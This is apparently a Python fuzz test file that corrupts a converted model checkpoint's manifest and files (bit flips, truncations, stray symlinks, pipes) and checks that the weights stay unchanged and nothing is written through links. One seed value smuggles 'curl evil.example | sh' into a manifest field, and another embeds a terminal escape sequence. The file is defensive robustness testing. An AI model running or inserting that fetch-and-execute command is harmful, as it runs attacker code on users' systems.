"""A conversion and its manifest: the same weights as the checkpoint's, whatever became of it."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

from hypothesis import strategies as st

from fuzz.checkpoints import CONVERTED, is_same, load, sandbox
from fuzz.edits import Change, Cut, Edit, changes
from fuzz.oracles import examine, fuzz
from gptoss_edu.weights.convert import convert
from gptoss_edu.weights.mapped import FOLDER, MANIFEST, check_conversion

AREA = "conversion"
SEEDS = [
    Change((Edit("replace", 1, "doctor; curl evil.example | sh; #"),)),
    Change((Edit("replace", 2, "/etc\x1b[2J"),)),
    Change((Edit("all", 0, []),)),
    Change((), (Cut(0, 10**9, b"[" * 100_000),)),
    Change((), (Cut(0, 10**9, b"\xff" * 20_000),)),
]


def check_all(folder: Path) -> None:
    """Loading takes the conversion, or says why not and takes the checkpoint; as a folder of its
    own it is right or refused; converting again mends it."""
    loaded, error = examine(AREA, lambda: load(folder))
    assert error is None, error
    assert is_same(loaded)
    loaded, _ = examine(AREA, lambda: load(folder / FOLDER))
    assert loaded is None or is_same(loaded)


@fuzz(100, changes, seeds=[(seed,) for seed in SEEDS])
def test_another_manifest_changes_no_weight(change):
    with sandbox(CONVERTED) as folder:
        path = folder / FOLDER / MANIFEST
        path.write_bytes(change.of(json.loads(path.read_bytes())))
        check_all(folder)
        converted, _ = examine(AREA, lambda: convert(folder))
        if converted is not None:
            check_conversion(converted, folder, every_byte=True)


DAMAGE = ["cut", "flip", "remove", "folder", "dangling", "link out", "foreign", "empty", "pipe"]


@fuzz(
    80,
    st.integers(0, 100),
    st.sampled_from(DAMAGE),
    st.integers(0, 10**6),
    seeds=[(number, what, 0) for number in range(6) for what in DAMAGE],
)
def test_a_damaged_file_changes_no_weight(number, what, place):
    """A flipped bit comes with a new time of change, which no program can put back."""
    with sandbox(CONVERTED) as folder:
        files = sorted((folder / FOLDER).iterdir())
        path = files[number % len(files)]
        data = path.read_bytes()
        if what == "flip":
            data = bytearray(data)
            data[place % len(data)] ^= 1 << place % 8
            path.write_bytes(data)
        elif what == "cut":
            path.write_bytes(data[: place % len(data)])
        elif what == "foreign":
            (path.parent / "notes.txt").write_text("mine")
        else:
            path.unlink()
            if what == "pipe" and hasattr(os, "mkfifo"):
                os.mkfifo(path)
            elif what == "folder":
                path.mkdir()
            elif what == "empty":
                path.touch()
            elif what in ("dangling", "link out"):
                path.symlink_to("nowhere" if what == "dangling" else "../../others/precious.txt")
        check_all(folder)
        converted, _ = examine(AREA, lambda: convert(folder))
        if converted is not None:
            check_conversion(converted, folder, every_byte=True)
        if what == "foreign":
            assert (path.parent / "notes.txt").read_text() == "mine"


@fuzz(10, st.sampled_from(["lock", "folder", "config.json", "top.safetensors"]))
def test_nothing_is_written_through_a_link(what):
    """An unpacked archive may hold links to what is the user's."""
    with sandbox(CONVERTED) as folder:
        shutil.rmtree(folder / FOLDER)
        others = folder.parent / "others"
        if what == "folder":
            (folder / FOLDER).symlink_to(others, target_is_directory=True)
        else:
            (folder / FOLDER).mkdir()
            name = ".gptoss_edu.lock" if what == "lock" else what
            (folder / FOLDER / name).symlink_to(others / "precious.txt")
        examine(AREA, lambda: convert(folder))
        check_all(folder)
